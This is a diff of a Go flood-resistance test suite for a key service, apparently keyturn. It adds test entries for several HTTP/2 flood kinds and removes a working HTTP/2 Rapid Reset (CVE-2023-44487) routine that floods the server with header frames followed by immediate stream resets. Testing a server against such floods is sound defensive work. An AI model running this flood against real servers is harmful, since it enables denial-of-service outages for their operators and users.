@@ -20,8 +20,6 @@ import (
 	"time"
 
 	"connectrpc.com/connect"
-	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 
 	keyturnv1 "github.com/keyturn/keyturn/gen/keyturn/v1"
 	"github.com/keyturn/keyturn/gen/keyturn/v1/keyturnv1connect"
@@ -162,6 +160,12 @@ func TestFloods(t *testing.T) {
 		{"streams that nobody reads", f.unread},
 		{"connections", f.connections},
 		{"streams that are reset", f.resets},
+		{"headers that never end", f.continuations},
+		{"headers that refer to large ones", f.references},
+		{"pings", f.pings},
+		{"settings", f.settings},
+		{"updates of windows", f.windows},
+		{"empty data", f.emptyData},
 	} {
 		limited, cancel := context.WithTimeout(t.Context(), 500*time.Millisecond)
 		flood.run(limited, t)
@@ -332,43 +336,4 @@ func (f *flooder) connections(ctx context.Context, t *testing.T) {
 	if open > 620 {
 		t.Errorf("%d connections of one address are open", open)
 	}
-}
-
-// resets opens streams and resets them at once (CVE-2023-44487).
-func (f *flooder) resets(ctx context.Context, _ *testing.T) {
-	together(ctx, 2, func(ctx context.Context, _ int) {
-		conn, err := f.tls(ctx, "h2")
-		if err != nil {
-			return
-		}
-		defer conn.Close()
-		defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
-		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
-			return
-		}
-		framer := http2.NewFramer(conn, conn)
-		if framer.WriteSettings() != nil {
-			return
-		}
-		go func() {
-			for {
-				if _, err := framer.ReadFrame(); err != nil {
-					return
-				}
-			}
-		}()
-		var head bytes.Buffer
-		encoder := hpack.NewEncoder(&head)
-		for id := uint32(1); ctx.Err() == nil; id += 2 {
-			head.Reset()
-			for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", keyturnv1connect.ControlServiceListKeysProcedure}, {":authority", "x"}, {"content-type", "application/json"}, {"authorization", "Bearer " + f.token}} {
-				if encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) != nil {
-					return
-				}
-			}
-			if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndHeaders: true}) != nil || framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
-				return
-			}
-		}
-	})
 }
